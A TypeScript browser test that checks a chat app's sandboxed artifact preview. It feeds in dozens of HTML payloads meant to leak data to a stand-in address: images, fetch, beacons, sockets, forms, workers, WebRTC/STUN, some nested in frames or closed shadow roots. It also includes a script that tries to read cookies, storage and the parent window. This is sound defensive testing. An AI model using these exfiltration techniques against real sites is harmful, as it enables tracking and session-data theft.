import { createSocket } from 'node:dgram'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openBrowser } from '../../browser.ts'
import { journeyOfFile, signOn } from '../../journey.ts'

/** Pages of answers that try to get out: to other servers, to the console, to what it keeps. In a real browser. */
const journey = journeyOfFile()
const asked: string[] = []
const outside = createServer((request, response) => {
  asked.push(request.url ?? '')
  response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' }).end('seen')
})
outside.on('connection', () => void asked.push('connection'))
const stun = createSocket('udp4', () => void asked.push('stun'))

beforeAll(async () => {
  await new Promise<void>((done) => void outside.listen(0, '127.0.0.1', done))
  await new Promise<void>((done) => void stun.bind(0, '127.0.0.1', done))
})
afterAll(() => {
  outside.close()
  stun.close()
})

/** What a page tries; `OUT` is an address that counts who asks. */
const ATTEMPTS: Record<string, string> = {
  image: '<img src="OUT/image">',
  'image set': '<img srcset="OUT/srcset 1x">',
  'image of a style': '<div style="background:url(OUT/style)">x</div>',
  'style sheet': '<link rel="stylesheet" href="OUT/sheet.css">',
  '@import': '<style>@import "OUT/import.css";</style>',
  font: '<style>@font-face{font-family:F;src:url(OUT/font.woff2)}p{font-family:F}</style><p>x</p>',
  script: '<script src="OUT/script.js"></script>',
  'module script': '<script type="module">import "OUT/module.js"</script>',
  'dynamic import': '<script>import("OUT/dynamic.js").catch(() => 0)</script>',
  fetch: '<script>fetch("OUT/fetch",{mode:"no-cors"}).catch(() => 0)</script>',
  'request of old': '<script>const x=new XMLHttpRequest();x.open("GET","OUT/xhr");x.send()</script>',
  beacon: '<script>navigator.sendBeacon("OUT/beacon","x")</script>',
  'web socket': '<script>new WebSocket("OUT/socket".replace("http","ws"))</script>',
  'event source': '<script>new EventSource("OUT/events")</script>',
  frame: '<iframe src="OUT/frame"></iframe>',
  'frame in a frame': '<iframe srcdoc="<img src=OUT/nested><script>fetch(`OUT/nested2`)</script>"></iframe>',
  object: '<object data="OUT/object"></object><embed src="OUT/embed">',
  video: '<video src="OUT/video" autoplay></video><audio src="OUT/audio" autoplay></audio>',
  track: '<video><track src="OUT/track" default></video>',
  prefetch: '<link rel="prefetch" href="OUT/prefetch"><link rel="preload" as="image" href="OUT/preload">',
  'module preload': '<link rel="modulepreload" href="OUT/modulepreload.js">',
  icon: '<link rel="icon" href="OUT/icon.png">',
  manifest: '<link rel="manifest" href="OUT/manifest.json">',
  base: '<base href="OUT/"><img src="base.png">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=OUT/refresh">',
  'own address': '<script>location.href="OUT/location"</script>',
  'address of the window':
    '<script>try{top.location="OUT/top"}catch{};try{parent.location="OUT/parent"}catch{}</script>',
  'a new window': '<script>window.open("OUT/window")</script>',
  form: '<form action="OUT/form" method="post"><input name="a"></form><script>document.forms[0].submit()</script>',
  'form in a new window': '<form action="OUT/form2" target="_top"></form><script>document.forms[0].submit()</script>',
  worker: '<script>new Worker(URL.createObjectURL(new Blob(["fetch(`OUT/worker`)"])))</script>',
  'service worker': '<script>navigator.serviceWorker?.register("OUT/sw.js").catch(() => 0)</script>',
  svg: '<svg><image href="OUT/svg"/><use href="OUT/use#a"/></svg>',
  'ping of a link': '<a id="l" href="#" ping="OUT/ping">x</a><script>l.click()</script>',
  download: '<a id="d" href="OUT/download" download>x</a><script>d.click()</script>',
  'link to another page': '<a id="n" href="OUT/link">x</a><script>n.click()</script>',
  'peer connection':
    '<script>const c=new RTCPeerConnection({iceServers:[{urls:"STUN"}]});c.createDataChannel("a");c.createOffer().then((o)=>c.setLocalDescription(o))</script>',
  'peer connection of a frame':
    '<iframe srcdoc="<script>const c=new RTCPeerConnection({iceServers:[{urls:`STUN`}]});c.createDataChannel(`a`);c.createOffer().then((o)=>c.setLocalDescription(o))</script>"></iframe>',
  'peer connection in the shade':
    '<div id="s"></div><script>const r=s.attachShadow({mode:"closed"});const f=document.createElement("iframe");f.srcdoc="<script>const c=new RTCPeerConnection({iceServers:[{urls:`STUN`}]});c.createDataChannel(`a`);c.createOffer().then((o)=>c.setLocalDescription(o))<"+"/script>";r.append(f)</script>',
  'peer connection in a written shade':
    '<div><template shadowrootmode="closed"><iframe srcdoc="<script>const c=new RTCPeerConnection({iceServers:[{urls:`STUN`}]});c.createDataChannel(`a`);c.createOffer().then((o)=>c.setLocalDescription(o))</script>"></iframe></template></div>',
  'peer connection of a new page':
    '<script>document.open();document.write("<iframe srcdoc=\\"<script>const c=new RTCPeerConnection({iceServers:[{urls:`STUN`}]});c.createDataChannel(`a`);c.createOffer().then((o)=>c.setLocalDescription(o))<"+"/script>\\"></iframe>");document.close()</script>',
  'connection ahead': '<link rel="preconnect" href="OUT"><link rel="dns-prefetch" href="OUT">',
  'connection ahead by a script':
    '<script>const k=document.createElement("link");k.rel="preconnect";k.href="OUT";document.head.append(k)</script>',
  speculation: '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["OUT/speculation"]}]}</script>',
}

/** What a page finds of the console that shows it; each has to be refused. */
const SPY = `<body><script>
  const tries = {
    cookie: () => document.cookie,
    storage: () => localStorage.length,
    database: () => indexedDB.open('x'),
    top: () => top.document.title,
    parent: () => parent.document.title,
    address: () => top.location.href,
    dialog: () => { alert(1); throw new Error('no dialog') },
  }
  const got = Object.entries(tries).flatMap(([name, run]) => { try { run(); return [name] } catch { return [] } })
  for (const to of [parent, top]) to.postMessage({ ready: true, html: 'forged', pong: 1 }, '*')
  document.title = 'spy'
  document.body.innerHTML = '<p id="got">got: ' + got.join(' ') + '; origin: ' + origin + '</p>'
</script>`

test('no page of an answer reaches another server, a window, or anything of the console', async () => {
  const account = await journey.server.createAccount()
  const out = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`
  const to = (page: string) =>
    page.replaceAll('OUT', out).replaceAll('STUN', `stun:127.0.0.1:${(stun.address() as AddressInfo).port}`)
  // Not a page that counts refused requests as trouble: refusing is what is looked for.
  const context = await (await openBrowser()).newContext({ baseURL: journey.server.url })
  const page = await context.newPage()
  const opened: string[] = []
  page.on('dialog', (dialog) => {
    opened.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  context.on('page', () => opened.push('window'))
  page.on('download', () => opened.push('download'))
  await signOn(page, account)

  const pages = [...Object.values(ATTEMPTS), SPY].map(to)
  // All bear one name, so that they are the versions of one page.
  const text = pages.map((html) => `\`\`\`html title="Page"\n${html}\n\`\`\``).join('\n\n')
  const { data } = await account.client.threads.create({
    body: {
      messages: [
        { role: 'user', parts: [{ type: 'text', text: 'Pages' }] },
        { role: 'assistant', parts: [{ type: 'text', text }] },
      ],
    },
  })
  const address = `/converse/thread/chat/${data.id}`
  await page.goto(`${address}?artifact=${data.messages.at(-1)?.id}.0`)
  const beside = page.getByRole('complementary', { name: 'Page', exact: true })
  for (const version of pages.keys()) {
    await beside.getByText(`${version + 1} of ${pages.length}`).waitFor()
    await beside.frameLocator('iframe').locator('iframe').waitFor()
    // The page has been run to its end, or was refused as a whole.
    const inner = page.frames().find((one) => one.parentFrame()?.parentFrame() === page.mainFrame())
    await inner?.waitForLoadState('load').catch(() => undefined)
    await page.evaluate(() => new Promise((done) => requestIdleCallback(done)))
    if (version < pages.length - 1) await beside.getByRole('button', { name: 'Newer version' }).click()
  }
  const found = beside.frameLocator('iframe').frameLocator('iframe').locator('#got')
  await expect.poll(() => found.textContent()).toBe('got: ; origin: null')
  await expect.poll(() => page.title()).not.toContain('spy')
  // A counted request goes the same way: whatever was on its way before it has come by now.
  await fetch(`${out}/end`)
  expect(asked).toEqual(['connection', '/end'])
  expect(opened).toEqual([])
  expect(new URL(page.url()).pathname).toBe(address)
  await context.close()
})
